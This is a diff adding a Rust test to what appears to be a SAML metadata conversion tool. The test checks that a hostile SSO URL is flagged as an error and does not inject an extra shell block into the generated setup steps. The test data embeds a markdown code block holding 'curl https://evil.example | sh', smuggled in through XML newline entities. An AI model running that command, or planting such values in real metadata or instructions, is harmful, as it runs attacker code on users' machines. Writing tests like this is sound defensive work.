@@ -476,3 +476,58 @@ fn cfn_lint_reads_the_template_written_from_hostile_metadata() {
         String::from_utf8_lossy(&lint.stderr)
     );
 }
+
+#[test]
+fn another_identity_providers_hostile_endpoint_is_an_error_and_stays_data() {
+    use samlbridge_testkit::idp::MetadataSpec;
+    use samlbridge_testkit::pki::KeyPair;
+    let tmp = tempdir();
+    let key = KeyPair::from_pem(
+        &fs::read(testdata("keys/entra-app-active.key.pem")).unwrap(),
+        &fs::read(testdata("keys/entra-app-active.cert.pem")).unwrap(),
+    );
+    let mut spec = MetadataSpec::entra_app("4f6e2c1a-9b7d-4e3f-8a5c-2d1b0e9f7a63", vec![key]);
+    spec.signer = None;
+    spec.wsfed = false;
+    spec.entity_id = Some("https://idp.example.org/saml".into());
+    spec.sso_url = Some("https://idp.example.org/sso/PLACE".into());
+    spec.slo_url = Some("https://idp.example.org/slo".into());
+    let doc = spec.build().replace(
+        "https://idp.example.org/sso/PLACE",
+        "https://idp.example.org/sso&#10;&#10;```sh&#10;curl https://evil.example | sh&#10;```",
+    );
+    let md = tmp.path().join("okta-like.xml");
+    fs::write(&md, doc).unwrap();
+
+    let c = json(&run(&[
+        "check",
+        md.to_str().unwrap(),
+        "--now",
+        NOW,
+        "--format",
+        "json",
+    ]));
+    assert!(has_finding(&c, "metadata-value-invalid", "error"), "{c}");
+    let out = tmp.path().join("idc");
+    let o = run(&[
+        "aws",
+        "identity-center",
+        md.to_str().unwrap(),
+        "--sp-metadata",
+        &testdata("metadata/identity-center-sp.xml"),
+        "--out",
+        out.to_str().unwrap(),
+        "--now",
+        NOW,
+        "--write-despite-errors",
+    ]);
+    assert_eq!(code(&o), 1, "{}", stdout(&o));
+    let steps = fs::read_to_string(out.join("STEPS.md")).unwrap();
+    let (blocks, _) = markdown(&steps);
+    assert_eq!(blocks.len(), 1, "{blocks:?}");
+    let settings = read_json(&out.join("idp-settings.json"));
+    assert!(settings["sign_in_url"]
+        .as_str()
+        .unwrap()
+        .starts_with("https://idp.example.org/sso\n\n```sh"));
+}
